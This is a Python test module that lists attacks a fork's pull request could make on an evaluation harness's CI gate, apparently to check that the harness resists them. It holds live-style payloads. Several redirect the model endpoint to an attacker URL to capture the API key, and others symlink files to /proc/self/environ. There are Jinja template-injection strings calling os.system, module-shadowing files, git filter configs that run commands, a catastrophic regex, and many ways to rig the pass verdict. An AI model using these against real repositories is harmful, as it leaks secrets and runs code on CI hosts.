"""What a fork's pull request can contain to get the key, run code, spend or pass. Each is a change of the checkout, and what it aims at."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.fork.place import MARK, answers, git, jsonl, rows
from tests.fork.poison import store_of_right_answers

GATE_G = ("gate", "g")
GATE_PAID = ("gate", "paid")


@dataclass(frozen=True)
class Attack:
    name: str
    aim: str
    """``key``, ``run``, ``spend`` or ``pass``."""
    do: Callable[[Path, str], None]
    words: tuple[str, ...] = GATE_G
    directory: str = ""
    """Folder of the checkout that the command runs in."""


ATTACKS: list[Attack] = []


def attack(name: str, aim: str, words: tuple[str, ...] = GATE_G, directory: str = "") -> Callable[[Any], Any]:
    def keep(do: Callable[[Path, str], None]) -> Callable[[Path, str], None]:
        ATTACKS.append(Attack(name, aim, do, words, directory))
        return do

    return keep


def edit(root: Path, *pairs: tuple[str, str], file: str = "evalh.toml") -> None:
    text = (root / file).read_text()
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new)
    (root / file).write_text(text)


def evil(root: Path, name: str = "evil.py") -> str:
    """Code that leaves the mark where it is run, and would send the key if it could."""
    code = f"open({str(root / MARK)!r}, 'w').write('x')\ndef run(*args, **words):\n    return 'yes'\n"
    (root / name).write_text(code)
    return name


LIVE = 'live = { model = "gpt-5-mini", prompt = "prompts/p.md", base_url = "https://api.openai.com/v1" }'
BOT = 'bot = { recorded = "recorded/new.jsonl" }'

# --- the key ----------------------------------------------------------------------------------------------------------


@attack("the model's address is the attacker's", "key", GATE_PAID)
def _(root: Path, url: str) -> None:
    edit(
        root,
        ("https://api.openai.com/v1", f"{url}/v1"),
        ('gpt-5-mini", prompt', 'gpt-5-mini", api_key_env = "OPENAI_API_KEY", prompt'),
    )


@attack("the candidate that is judged becomes a model at the attacker's", "key")
def _(root: Path, url: str) -> None:
    edit(root, (BOT, f'bot = {{ model = "x", base_url = "{url}/v1", api_key_env = "MY_API_KEY" }}'))


@attack("the baseline becomes a model at the attacker's", "key", ("gate", "side"))
def _(root: Path, url: str) -> None:
    edit(
        root,
        (
            'old = { recorded = "recorded/old.jsonl" }',
            f'old = {{ model = "x", base_url = "{url}/v1", api_key_env = "MY_API_KEY" }}',
        ),
    )


@attack("a judge at the attacker's address", "key")
def _(root: Path, url: str) -> None:
    (root / "rubrics/r.toml").write_text('id = "r"\n')
    edit(
        root,
        (
            'exact = { use = "equals" }',
            f'exact = {{ use = "judge", rubric = "rubrics/r.toml", model = "x", base_url = "{url}/v1" }}',
        ),
    )


@attack("an http candidate that asks the attacker", "key")
def _(root: Path, url: str) -> None:
    edit(root, (BOT, f'bot = {{ http = {{ url = "{url}/a", body = {{ q = "{{{{ input }}}}" }}, pick = "/text" }} }}'))


@attack("a .env file that names another endpoint", "key", GATE_PAID)
def _(root: Path, url: str) -> None:
    (root / ".env").write_text(f"OPENAI_BASE_URL={url}/v1\nEVALH_KEY_HOSTS=OPENAI_API_KEY=127.0.0.1\n")
    edit(root, (', base_url = "https://api.openai.com/v1"', ""))


@attack("the prompt is a link to the environment", "key", GATE_PAID)
def _(root: Path, url: str) -> None:
    (root / "prompts/p.md").unlink()
    (root / "prompts/p.md").symlink_to("/proc/self/environ")


@attack("the eval set is a link to the environment", "key")
def _(root: Path, url: str) -> None:
    (root / "evalsets/s.jsonl").unlink()
    (root / "evalsets/s.jsonl").symlink_to("/proc/self/environ")


@attack("the answers are a link to the environment", "key")
def _(root: Path, url: str) -> None:
    (root / "recorded/new.jsonl").unlink()
    (root / "recorded/new.jsonl").symlink_to("/proc/self/environ")


@attack("a whole folder is a link out of the project", "key")
def _(root: Path, url: str) -> None:
    outside = root.parent / "outside"
    shutil.move(root / "evalsets", outside)
    (root / "evalsets").symlink_to(outside)


# --- code -------------------------------------------------------------------------------------------------------------


@attack("the candidate becomes a Python function", "run")
def _(root: Path, url: str) -> None:
    evil(root)
    edit(root, (BOT, 'bot = { python = "evil:run" }'))


@attack("the candidate becomes a program", "run")
def _(root: Path, url: str) -> None:
    edit(root, (BOT, f'bot = {{ command = ["/bin/sh", "-c", "touch {root / MARK}"] }}'))


@attack("the candidate becomes a retriever of its own", "run")
def _(root: Path, url: str) -> None:
    evil(root)
    edit(root, (BOT, 'bot = { retriever = "evil:run" }'))


@attack("the scorer becomes a Python function", "run")
def _(root: Path, url: str) -> None:
    evil(root)
    edit(root, ('exact = { use = "equals" }', 'exact = { use = "python", call = "evil:run" }'))


@attack("a check inside a case is a Python function", "run")
def _(root: Path, url: str) -> None:
    evil(root)
    found = rows(root / "evalsets/s.jsonl")
    found[0]["checks"] = [{"use": "python", "call": "evil:run"}]
    jsonl(root / "evalsets/s.jsonl", found)


@attack("a check inside a case fetches its schema", "run")
def _(root: Path, url: str) -> None:
    found = rows(root / "evalsets/s.jsonl")
    found[0]["checks"] = [{"use": "json_schema", "schema": {"$ref": f"{url}/schema.json"}}]
    jsonl(root / "evalsets/s.jsonl", found)


@attack("modules of our libraries' names lie in the checkout", "run", GATE_PAID)
def _(root: Path, url: str) -> None:
    for name in ("jinja2.py", "openai.py", "jsonschema.py", "tomllib.py", "sitecustomize.py", "conftest.py", "rich.py"):
        evil(root, name)
    (root / "evalharness").mkdir()
    evil(root / "evalharness", "__init__.py")


@attack("an installed plug-in is claimed by a folder of metadata", "run")
def _(root: Path, url: str) -> None:
    evil(root)
    (root / "evil-1.dist-info").mkdir()
    (root / "evil-1.dist-info/METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
    (root / "evil-1.dist-info/entry_points.txt").write_text(
        "[evalharness.scorers]\nevil = evil:run\n[evalharness.candidates]\nevil = evil:run\n"
    )
    edit(root, ('exact = { use = "equals" }', 'exact = { use = "evil" }'))


@attack("the prompt is a template that reaches for Python", "run", GATE_PAID)
def _(root: Path, url: str) -> None:
    reach = (
        "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os.system('touch "
        + str(root / MARK)
        + "') }}"
    )
    (root / "prompts/p.md").write_text(reach + "{{ input }}")


@attack("case data is a template", "run", GATE_PAID)
def _(root: Path, url: str) -> None:
    found = rows(root / "evalsets/s.jsonl")
    for row in found:
        row["input"] = "{{ cycler.__init__.__globals__.os.system('touch " + str(root / MARK) + "') }}"
    jsonl(root / "evalsets/s.jsonl", found)


@attack("git attributes that name a program", "run")
def _(root: Path, url: str) -> None:
    (root / ".gitattributes").write_text("* diff=evil filter=evil\n")
    (root / ".gitconfig").write_text(
        f'[diff "evil"]\ntextconv = touch {root / MARK}\n[filter "evil"]\nsmudge = touch {root / MARK}\n'
    )


# --- money ------------------------------------------------------------------------------------------------------------


@attack("no cap, no price, more epochs", "spend", GATE_PAID)
def _(root: Path, url: str) -> None:
    edit(
        root,
        ("max_cost = 0.50", "max_cost = 999999.0"),
        ("{ input = 0.25, output = 2.0 }", "{ input = 0.0, output = 0.0 }"),
        ('candidate = "live"', 'candidate = "live"\nepochs = 3'),
        ("https://api.openai.com/v1", f"{url}/v1"),
    )


@attack("a dearer model with endless answers", "spend", GATE_PAID)
def _(root: Path, url: str) -> None:
    edit(
        root,
        ('model = "gpt-5-mini", prompt', 'model = "gpt-9-max", max_tokens = 10000000, prompt'),
        ("https://api.openai.com/v1", f"{url}/v1"),
    )


@attack("a template that never ends", "spend", GATE_PAID)
def _(root: Path, url: str) -> None:
    found = rows(root / "evalsets/s.jsonl")
    for row in found:
        row["input"] = "x" * 400
    jsonl(root / "evalsets/s.jsonl", found)
    (root / "prompts/p.md").write_text(
        "{% for a in input %}{% for b in input %}{% for c in input %}{% for d in input %}{{ d }}{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
    )


@attack("a pattern that never ends, in a case", "spend")
def _(root: Path, url: str) -> None:
    found = rows(root / "evalsets/s.jsonl")
    found[1]["checks"] = [{"use": "regex", "pattern": "(a+)+$"}]
    jsonl(root / "evalsets/s.jsonl", found)
    given = answers(lambda i: i % 4 != 0)
    given[1]["output"] = "a" * 5000 + "b"
    jsonl(root / "recorded/new.jsonl", given)


# --- the repository that the rules are read from ------------------------------------------------------------------------


def moved(root: Path) -> str:
    """Have the project lie in ``evals/`` at main, and the fork's worse answers on top; gives these answers."""
    worse = (root / "recorded/new.jsonl").read_text()
    git(root, "checkout", "-q", "-f", "main")
    (root / "evals").mkdir()
    for name in ("evalh.toml", "evalsets", "recorded", "prompts", "rubrics", "reports"):
        git(root, "mv", name, f"evals/{name}")
    git(root, "commit", "-q", "-m", "a folder of its own")
    git(root, "checkout", "-q", "-B", "fork")
    (root / "evals/recorded/new.jsonl").write_text(worse)
    edit(root / "evals", ("margin = 0.05", "margin = 0.9"))
    return worse


def theirs(root: Path) -> Path:
    """A repository of the attacker's with what is in ``evals/`` now: its main has the wide margin."""
    place = root.parent / "theirs"
    shutil.copytree(root / "evals", place)
    git(place, "init", "-q", "-b", "main")
    git(place, "add", "-A")
    git(place, "commit", "-q", "-m", "theirs")
    return place


@attack("files that git takes for a repository lie beside the config", "pass", directory="evals")
def _(root: Path, url: str) -> None:
    """A folder with HEAD, objects and refs is one to git; its main says what the attacker likes."""
    moved(root)
    place = theirs(root)
    for name in ("HEAD", "config", "objects", "refs"):
        part = place / ".git" / name
        (shutil.copytree if part.is_dir() else shutil.copy)(part, root / "evals" / name)


@attack("the project's folder becomes a submodule", "pass", directory="evals")
def _(root: Path, url: str) -> None:
    moved(root)
    place = theirs(root)
    git(root, "rm", "-q", "-r", "-f", "--cached", "evals")
    head = subprocess.run(["git", "-C", str(place), "rev-parse", "HEAD"], check=True, capture_output=True, text=True)
    git(root, "update-index", "--add", "--cacheinfo", f"160000,{head.stdout.strip()},evals")
    shutil.copytree(place / ".git", root / ".git/modules/evals")
    git(root / ".git/modules/evals", "config", "core.worktree", "../../../evals")
    (root / "evals/.git").write_text("gitdir: ../.git/modules/evals\n")


@attack("the workflow checks out the fork's own repository", "pass")
def _(root: Path, url: str) -> None:
    """As ``pull_request_target`` with ``repository: HEAD``: there "main" is the fork's."""
    worse = (root / "recorded/new.jsonl").read_text()
    git(root, "checkout", "-q", "-f", "main")
    edit(root, ("margin = 0.05", "margin = 0.9"))
    git(root, "commit", "-q", "-a", "-m", "wide")
    git(root, "checkout", "-q", "-B", "fork")
    (root / "recorded/new.jsonl").write_text(worse)
    git(root, "remote", "add", "origin", "https://github.com/stranger/repo.git")


# --- the verdict ------------------------------------------------------------------------------------------------------


@attack("a wider margin", "pass")
def _(root: Path, url: str) -> None:
    edit(root, ("margin = 0.05", "margin = 0.9"))


@attack("another alpha, and inconclusive passes", "pass")
def _(root: Path, url: str) -> None:
    edit(
        root,
        (
            "[gates.g]",
            '[gates.g]\nalpha_block = 0.000001\nproven_drop = "inconclusive"\ninconclusive = "pass"\nincomplete = "pass"\nmode = "block_only"',
        ),
    )


@attack("the guard is only reported", "pass")
def _(root: Path, url: str) -> None:
    edit(
        root,
        (
            "limits = { exact = { margin = 0.05 } }",
            'limits = { exact = { role = "report" }, finish_reason = { margin = 1.0 } }',
        ),
    )


@attack("the gate is taken away", "pass", ("gate",))
def _(root: Path, url: str) -> None:
    text = (root / "evalh.toml").read_text()
    (root / "evalh.toml").write_text(text[: text.index("[gates.g]")])


@attack("the gate gets another name, which is new", "pass", ("gate",))
def _(root: Path, url: str) -> None:
    edit(root, ("[gates.g]", "[gates.new]"), ("[gates.side]", "[gates.new2]"), ("[gates.paid]", "[gates.new3]"))


@attack("the config moves to pyproject.toml", "pass", ("gate",))
def _(root: Path, url: str) -> None:
    text = (root / "evalh.toml").read_text().replace("margin = 0.05", "margin = 0.9")
    text = text[: text.index("[gates.side]")]
    (root / "evalh.toml").unlink()
    (root / "pyproject.toml").write_text(
        "[tool.evalh]\n" + text.replace("[", "[tool.evalh.").replace("\n[tool.evalh.tool.", "\n[tool.")
    )


@attack("a nearer config before the trusted one", "pass", ("gate",), "sub")
def _(root: Path, url: str) -> None:
    (root / "sub").mkdir()
    for name in ("evalsets", "recorded", "prompts", "reports"):
        shutil.copytree(root / name, root / "sub" / name)
    text = (root / "evalh.toml").read_text().replace("margin = 0.05", "margin = 0.9")
    (root / "sub/evalh.toml").write_text(text[: text.index("[gates.side]")])


@attack("a lower stored baseline", "pass")
def _(root: Path, url: str) -> None:
    """With its digest made anew: a digest stops mistakes, not who can write the file."""
    path = root / "reports/baselines/g.jsonl"
    first, _, body = path.read_text().partition("\n")
    body = body.replace('"value":1.0', '"value":0.0').replace('"output":"yes"', '"output":"no"')
    header = json.loads(first) | {"sha256": hashlib.sha256(body.encode()).hexdigest()}
    path.write_text(json.dumps(header) + "\n" + body)


@attack("a lower baseline in an answers file", "pass", ("gate", "side"))
def _(root: Path, url: str) -> None:
    jsonl(root / "recorded/old.jsonl", answers(lambda i: i % 4 != 0))


@attack("the judged candidate reads the baseline's answers", "pass")
def _(root: Path, url: str) -> None:
    edit(root, (BOT, 'bot = { recorded = "recorded/old.jsonl" }'))


@attack("a scorer that is always content", "pass")
def _(root: Path, url: str) -> None:
    edit(root, ('exact = { use = "equals" }', 'exact = { use = "regex", pattern = "" }'))


@attack("the cases that fail are deleted", "pass")
def _(root: Path, url: str) -> None:
    jsonl(root / "evalsets/s.jsonl", [row for i, row in enumerate(rows(root / "evalsets/s.jsonl")) if i % 4])


@attack("the cases that fail are deprecated", "pass")
def _(root: Path, url: str) -> None:
    found = rows(root / "evalsets/s.jsonl")
    jsonl(root / "evalsets/s.jsonl", [row | ({} if i % 4 else {"deprecated": "old"}) for i, row in enumerate(found)])


@attack("the cases that fail want the wrong answer now", "pass")
def _(root: Path, url: str) -> None:
    found = rows(root / "evalsets/s.jsonl")
    jsonl(root / "evalsets/s.jsonl", [row | ({} if i % 4 else {"target": "no"}) for i, row in enumerate(found)])


@attack("the cases that hold weigh a billion", "pass")
def _(root: Path, url: str) -> None:
    found = rows(root / "evalsets/s.jsonl")
    jsonl(
        root / "evalsets/s.jsonl",
        [row | ({"weight": 1e9} if i % 4 else {"weight": 1e-9}) for i, row in enumerate(found)],
    )


def _describe(root: Path, what: Callable[[int], dict[str, Any]]) -> None:
    """Describe the cases that fail otherwise, which keeps them paired."""
    found = rows(root / "evalsets/s.jsonl")
    jsonl(root / "evalsets/s.jsonl", [row | ({} if i % 4 else what(i)) for i, row in enumerate(found)])


@attack("the cases that fail weigh next to nothing", "pass")
def _(root: Path, url: str) -> None:
    _describe(root, lambda _: {"weight": 1e-6})


@attack("the cases that fail are one cluster", "pass")
def _(root: Path, url: str) -> None:
    _describe(root, lambda _: {"cluster": "one"})


@attack("cases under ids that differ in case, or come twice", "pass")
def _(root: Path, url: str) -> None:
    found = rows(root / "evalsets/s.jsonl")
    jsonl(
        root / "evalsets/s.jsonl",
        [*found, *(row | {"id": row["id"].upper()} for row in found if int(row["id"][1:]) % 4)],
    )


@attack("answers that fail are left out", "pass")
def _(root: Path, url: str) -> None:
    jsonl(root / "recorded/new.jsonl", [row for i, row in enumerate(answers(lambda i: True)) if i % 4])


@attack("answers that fail are errors", "pass")
def _(root: Path, url: str) -> None:
    given = answers(lambda i: True)
    jsonl(
        root / "recorded/new.jsonl",
        [row if i % 4 else {"id": row["id"], "error": "down"} for i, row in enumerate(given)],
    )


@attack("NaN, huge numbers and duplicate keys in the answers", "pass")
def _(root: Path, url: str) -> None:
    path = root / "recorded/new.jsonl"
    path.write_text(
        path.read_text() + '{"id":"c000","output":"yes","latency_s":NaN,"id":"c001"}\n{"id":"c002","cost_usd":1e999}\n'
    )


@attack("a store full of right answers is committed", "pass", GATE_PAID)
def _(root: Path, url: str) -> None:
    """What a fork can make at home: the trusted candidate asked at its own server, its answers kept under our keys."""
    store_of_right_answers(root)


@attack("a lock file that tells another story", "pass")
def _(root: Path, url: str) -> None:
    (root / "evalh.lock").write_text(
        'version = 1\n[evalsets.s]\nversion = "9.9.9"\nn = 1\ndigest = "' + "0" * 64 + '"\n'
    )


@attack("a file and a folder with the base ref's name", "pass")
def _(root: Path, url: str) -> None:
    (root / "main").mkdir()
    edit(root, ("margin = 0.05", "margin = 0.9"))
    shutil.copy(root / "evalh.toml", root / "main/evalh.toml")
    (root / "origin").mkdir()
    (root / "origin/main").write_text("x")
